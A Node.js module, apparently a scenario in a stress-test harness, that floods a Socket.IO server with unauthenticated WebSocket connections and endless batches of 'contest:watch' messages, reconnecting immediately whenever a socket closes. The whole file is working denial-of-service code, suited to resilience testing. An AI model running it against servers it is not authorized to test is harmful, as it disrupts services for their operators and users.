import { randomBytes, randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

export const title = 'a flood of anonymous live connections';

export const variants = [{ name: '4 sockets', sockets: 4 }];

const MESSAGES_PER_WRITE = 200;
/** Before a refused connection is tried again. */
const RETRY_MS = 50;

/** One masked text frame; the mask of zeros leaves the text as it is. */
function frame(text) {
  return Buffer.concat([Buffer.from([0x81, 0x80 | text.length]), Buffer.alloc(4), Buffer.from(text)]);
}

function watches() {
  return Buffer.concat(
    Array.from({ length: MESSAGES_PER_WRITE }, () =>
      frame(`42["contest:watch",{"contestId":"${randomUUID()}"}]`),
    ),
  );
}

async function open(host, port) {
  const socket = connect(port, host);
  socket.on('error', () => socket.destroy());
  await once(socket, 'connect');
  socket.write(
    `GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nHost: ${host}:${port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n` +
      `Sec-WebSocket-Key: ${randomBytes(16).toString('base64')}\r\nSec-WebSocket-Version: 13\r\n\r\n`,
  );
  await once(socket, 'data');
  socket.resume();
  socket.write(frame('40'));
  return socket;
}

/** Watch random contests without a pause, and come back at once when a connection is closed. */
export async function attack({ host, port, variant, signal }) {
  const sent = { messages: 0, connections: 0 };
  const flood = async () => {
    while (!signal.aborted) {
      const socket = await open(host, port).catch(() => null);
      if (!socket) {
        await sleep(RETRY_MS);
        continue;
      }
      sent.connections++;
      await fill(socket, sent, signal);
      socket.destroy();
    }
  };
  await Promise.all(Array.from({ length: variant.sockets }, flood));
  return sent;
}

async function fill(socket, sent, signal) {
  while (!signal.aborted && socket.writable && !socket.readableEnded) {
    sent.messages += MESSAGES_PER_WRITE;
    // A server that no longer reads closes in the end: both events, and the end of the attack, are awaited.
    if (socket.write(watches())) await new Promise((resolve) => setImmediate(resolve));
    else
      await Promise.race([once(socket, 'drain', { signal }), once(socket, 'close')]).catch(() => undefined);
  }
}
